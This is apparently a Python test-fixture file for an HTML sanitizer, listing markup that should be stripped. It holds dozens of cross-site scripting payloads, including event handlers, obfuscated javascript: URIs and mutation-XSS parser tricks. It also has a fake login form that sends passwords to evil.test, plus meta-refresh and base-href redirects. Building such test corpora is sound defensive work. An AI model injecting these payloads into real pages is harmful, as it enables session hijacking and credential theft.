"""Texts that try to become something else: markup that runs, markup that changes when it is read twice (T08, T18, T19)."""

from __future__ import annotations

HIT = "window.__hit=1"

RUNNING = (
    f"x<script>{HIT}</script>",
    f"<p>a<script>{HIT}</script>b</p>",
    f"<p>x</p><img src=x onerror='{HIT}'>",
    f"<p onclick='{HIT}' onmouseover='{HIT}'>x</p>",
    f"<p>x<svg onload='{HIT}'></svg></p>",
    f"<p>x<svg><script>{HIT}</script></svg></p>",
    f"<p>x<svg><a xlink:href='javascript:{HIT}'><text>y</text></a></svg></p>",
    f"<p><a href='javascript:{HIT}'>x</a></p>",
    f"<p><a href='JaVaScRiPt:{HIT}'>x</a></p>",
    f"<p><a href='&#106;avascript:{HIT}'>x</a></p>",
    f"<p><a href='java\tscript:{HIT}'>x</a></p>",
    f"<p><a href=' javascript:{HIT}'>x</a></p>",
    f"<p><a href='data:text/html,<script>{HIT}</script>'>x</a></p>",
    f"<p><a href='vbscript:{HIT}'>x</a></p>",
    "<p><a href='/undo/1'>x</a></p>",
    "<p><a href='//evil.test'>x</a></p>",
    f"<p>x<iframe src='javascript:{HIT}'></iframe></p>",
    f'<p>x<iframe srcdoc="<script>parent.{HIT}</script>"></iframe></p>',
    f"<p>x<object data='data:text/html,<script>{HIT}</script>'></object></p>",
    "<p>x<embed src='//evil.test'></p>",
    f"<p>x<details open ontoggle='{HIT}'>y</details></p>",
    f"<p>x<video><source onerror='{HIT}'></video></p>",
    f"<p>x<audio src=x onerror='{HIT}'></audio></p>",
    f"<p>x<input autofocus onfocus='{HIT}'></p>",
    f"<p>x<select autofocus onfocus='{HIT}'></select></p>",
    f"<p>x<body onload='{HIT}'></p>",
    f"<p>x<marquee onstart='{HIT}'>y</marquee></p>",
    f"<p>x<isindex action='javascript:{HIT}'></p>",
    f"<p/onclick={HIT}>x</p>",
    f"<p style=\"background:url('javascript:{HIT}')\">x</p>",
    f"<p>x<template><script>{HIT}</script></template></p>",
    f"<b>x</b><a href=https://a.test onclick={HIT}>y</a>",
)
FORGING = (
    "<p>x</p><form action='https://evil.test'><input name=password><button>Sign in</button></form>",
    "<p>x</p><style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p>x</p><base href='https://evil.test/'>",
    "<p>x</p><meta http-equiv='refresh' content='0;url=https://evil.test'>",
    "<p>x</p><link rel=stylesheet href='https://evil.test/a.css'>",
    "<p id=done class=messages>x</p>",
    "<p hx-get='/signout' hx-trigger=load>x</p>",
    "<p data-upload data-guard>x</p>",
    "<table><tr><td colspan=99999999 rowspan=0>x</td></tr></table>",
)
MUTATING = (
    f'<p>x</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    f'<p>x</p><svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    f'<p>x</p><noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f"<p>x</p><form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
    f"<p>x</p><!--><img src=x onerror={HIT}>-->",
    f'<p>x</p><!--<img src="--><img src=x onerror={HIT}//">',
    f"<p>x</p><template><p title='</template><img src=x onerror={HIT}>'>",
    f"<p>x</p><textarea><p title='</textarea><img src=x onerror={HIT}>'>",
    f"<p>x</p><title><p title='</title><img src=x onerror={HIT}>'>",
    f"<p>x</p><xmp><p title='</xmp><img src=x onerror={HIT}>'>",
    f"<p>x</p><![CDATA[<img src=x onerror={HIT}>]]>",
    f"<p>x</p><math><annotation-xml encoding='text/html'><img src=x onerror={HIT}></annotation-xml></math>",
    f"<p>x</p><svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<p>x&lt;img src=x onerror={HIT}&gt;</p>",
    f"<p>x</p><<script>{HIT}//<</script>",
    "<p>x<b><i>y</b>z</i>",
)
MARKUP = (*RUNNING, *FORGING, *MUTATING)
"""Each holds some letter that is kept, so that none is refused as empty."""
